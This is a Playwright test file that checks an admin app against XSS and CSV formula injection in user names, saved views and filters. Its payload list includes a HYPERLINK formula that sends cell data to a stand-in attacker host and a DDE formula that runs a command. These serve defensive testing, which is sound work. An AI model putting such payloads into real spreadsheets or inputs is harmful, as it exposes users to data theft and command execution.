import { expect, type Page } from 'playwright/test';
import { cookieHeader, signIn } from './admin.ts';
import { callAction, listServerActions } from './admin-actions.ts';
import { makeUser } from './admin-world.ts';
import { callApi } from './api.ts';
import { synchronize } from './data.ts';
import { test } from './fixtures.ts';
import { expectNoDialogs } from './no-dialogs.ts';
import { type OwnServer, startOwnServer, withFirstAdmin } from './own-server.ts';
import { heading } from './steps.ts';
import { xssStrings } from './xss.ts';

/**
 * Names that consumers and admins write are text in files and on pages (T-17): 200 scripts and some formulas as the names
 * of users, of saved views and in filters. That no report of the Content-Security-Policy comes is looked after by the
 * fixtures.
 */
test.describe.configure({ mode: 'serial' });

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
  "=cmd|' /C calc'!A0",
  '+33 1 23 45',
  '-2+3',
  '@SUM(1+1)*cmd',
];
const names = [...xssStrings, ...formulas];

let server: OwnServer;
test.beforeAll(async () => {
  test.setTimeout(180_000);
  server = await startOwnServer(withFirstAdmin);
  for (let from = 0; from < names.length; from += 8)
    await Promise.all(names.slice(from, from + 8).map(makeSynchronized));
});
test.afterAll(() => server.remove());
expectNoDialogs(test);

async function makeSynchronized(name: string): Promise<void> {
  const userId = await makeUser(name, { siren: '812345678' }, server.access);
  const body = { provider_name: 'sandbox_public', requested_data_types: ['LEGAL_NOTICE'] };
  await callApi('POST', `/users/${userId}/data-connections`, body, server.access);
  await synchronize(server.access, userId);
}

const go = (page: Page, path: string) => page.goto(`${server.url}/admin${path}`);

/** RFC 4180, with nothing forgiven. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const [, quoted, plain = '', end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error(`no CSV from here on: ${text.slice(at, at + 80)}`);
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

/** The rows of an export, each by the names of its columns. */
async function exportOf(page: Page, list: string): Promise<Record<string, string>[]> {
  const answer = await page.request.get(`${server.url}/admin/${list}/export.csv`);
  expect(answer.headers()).toMatchObject({
    'content-type': expect.stringContaining('text/csv'),
    'content-disposition': expect.stringContaining('attachment'),
    'x-content-type-options': 'nosniff',
  });
  const [head = [], ...rows] = parseCsv(await answer.text());
  for (const row of rows) {
    expect(row).toHaveLength(head.length);
    // What a spreadsheet takes for a formula.
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
  return rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])));
}

/** With the apostrophe that keeps a spreadsheet from calculating. */
const asCells = () => names.map((name) => (/^[=+\-@]/.test(name) ? `'${name}` : name)).toSorted();

/** Opens a page and those behind it; which of the names stand there, letter by letter. */
async function namesOn(page: Page, path: string): Promise<string[]> {
  const found = new Set<string>();
  for (let next: string | null = path; next !== null; ) {
    await go(page, next);
    await expect(heading(page)).toBeVisible();
    for (const text of await page.locator('tbody td a, tbody th a, tbody td').allTextContents())
      if (names.includes(text)) found.add(text);
    const link = page.getByRole('link', { name: /^(Next|Older|Further|More)\b/ });
    const href: string | null = (await link.count()) > 0 ? await link.first().getAttribute('href') : null;
    next = href?.replace('/admin', '') ?? null;
  }
  return [...found].toSorted();
}

/** Disconnects everything in bulk, and waits for the end. Returns the path of the run below /admin. */
async function disconnectAll(page: Page): Promise<string> {
  await go(page, '/connections/bulk/new?action=disconnect&scope=filter');
  await page.getByLabel('Type “disconnect” to confirm').fill('disconnect');
  await page.getByRole('button', { name: 'Disconnect' }).click();
  // The server is busy with the run itself.
  await expect(page).toHaveURL(/\/bulk\/[0-9a-f-]{36}$/, { timeout: 30_000 });
  await expect(page.getByText('Done', { exact: true }).first()).toBeVisible({ timeout: 30_000 });
  return new URL(page.url()).pathname.replace('/admin', '');
}

test('the users’ file has every name in one cell of its own, and no cell is a formula', async ({ page }) => {
  await signIn(page, undefined, server.url);
  expect(await namesOn(page, '/users')).toEqual(names.toSorted());
  const rows = await exportOf(page, 'users');
  expect(rows.map(({ name }) => name).toSorted()).toEqual(asCells());
});

test('so have the files of syncs and of connections', async ({ page }) => {
  await signIn(page, undefined, server.url);
  for (const list of ['syncs', 'connections']) {
    const rows = await exportOf(page, list);
    expect(rows.map((row) => row.user_name).toSorted(), list).toEqual(asCells());
  }
  expect(await namesOn(page, '/syncs')).toEqual(names.toSorted());
});

test('a bulk run shows the names of those it left as they were, and before it those that are chosen', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await signIn(page, undefined, server.url);
  const ids = (await exportOf(page, 'connections')).map(({ id }) => id ?? '');
  for (const [index, id] of ids.slice(0, 20).entries()) {
    await go(page, `/connections/bulk/new?action=sync&select=${id}`);
    await expect(heading(page), `row ${index}`).toHaveText('Synchronize 1 connection?');
  }
  await disconnectAll(page);
  const path = await disconnectAll(page);
  expect(await namesOn(page, path)).toEqual(names.toSorted());
});

test('what a list was filtered by is text on the pages of bulk actions', async ({ page }) => {
  test.setTimeout(120_000);
  await signIn(page, undefined, server.url);
  for (const name of names.filter((_, index) => index % 5 === 0)) {
    await go(
      page,
      `/connections/bulk/new?${new URLSearchParams({ action: 'sync', scope: 'filter', group: name })}`,
    );
    await expect(page.locator('dd').first()).toContainText(name);
  }
});

test('saved views are named and filtered as they were written', async ({ page }) => {
  test.setTimeout(120_000);
  await signIn(page, undefined, server.url);
  const action = listServerActions().find(({ name }) => name === 'saveViewAction');
  if (action === undefined) throw new Error('there is no action that saves a view');
  const cookie = await cookieHeader(page, server.url);
  // As many as one admin may have, with names as long as they may be.
  const short = names
    .filter(({ length }) => length <= 60)
    .toReversed()
    .slice(0, 50);
  expect(short).toHaveLength(50);
  for (const name of short) {
    const fields = { list: 'users', query: String(new URLSearchParams({ q: name })), name };
    expect(await callAction(action, { cookie, url: server.url, fields }), name).toContain('"outcome":"done"');
  }
  await go(page, '/users');
  const views = page.getByRole('navigation', { name: 'Saved views' }).getByRole('link');
  expect((await views.allTextContents()).slice(1)).toEqual(short);
  const hrefs = await views.evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  for (const href of hrefs.slice(1)) expect(href).toMatch(/^\/admin\/users\?q=/);
  for (let index = 0; index < short.length; index += 4) {
    await page.goto(server.url + hrefs[index + 1]);
    await expect(page.locator('input[name="q"]')).toHaveValue(String(short[index]));
    await page.getByText('Delete view').click();
    await expect(page.locator('details[open]')).toContainText(String(short[index]));
  }
  await go(page, '/audit?action=view.create');
  await expect(page.locator('main')).toContainText(short[0] ?? '');
});
